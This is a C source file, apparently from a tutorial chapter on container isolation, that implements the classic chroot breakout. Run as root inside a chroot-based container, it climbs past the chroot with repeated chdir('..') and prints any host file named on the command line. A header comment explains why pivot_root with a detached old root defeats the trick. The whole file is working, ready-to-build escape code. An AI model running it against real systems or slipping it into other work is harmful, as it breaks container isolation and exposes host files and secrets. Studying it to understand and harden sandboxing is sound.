/*
 * The classic chroot breakout (chapter 02). Run as root inside a container; prints the file
 * named by argv[1] as seen from the *real* root, if it can get there.
 *
 * chroot(2) changes only how "/" is resolved for this process; it does not move the current
 * directory. So: make a subdirectory, chroot into it while our cwd stays above it, and ".."
 * from the cwd is no longer stopped by our root. Climb to the top of the mount namespace and
 * chroot there. Under chroot the top is the host's root; after pivot_root and detaching the old
 * root, the top *is* the container's root, and the climb goes nowhere.
 *
 * Build: gcc -static -O2 -o chroot-escape chroot-escape.c
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: %s FILE\n", argv[0]);
        return 2;
    }
    mkdir("/.escape", 0700);                 /* may exist already */
    if (chroot("/.escape") != 0) {           /* root moves down; cwd stays where it was */
        perror("chroot /.escape");
        return 1;
    }
    for (int i = 0; i < 256; i++)            /* ".." from a cwd outside our root: not stopped */
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {                  /* make the top we reached our root */
        perror("chroot .");
        return 1;
    }
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) {
        perror(argv[1]);
        return 1;
    }
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0)
        fwrite(buf, 1, (size_t)n, stdout);
    return 0;
}
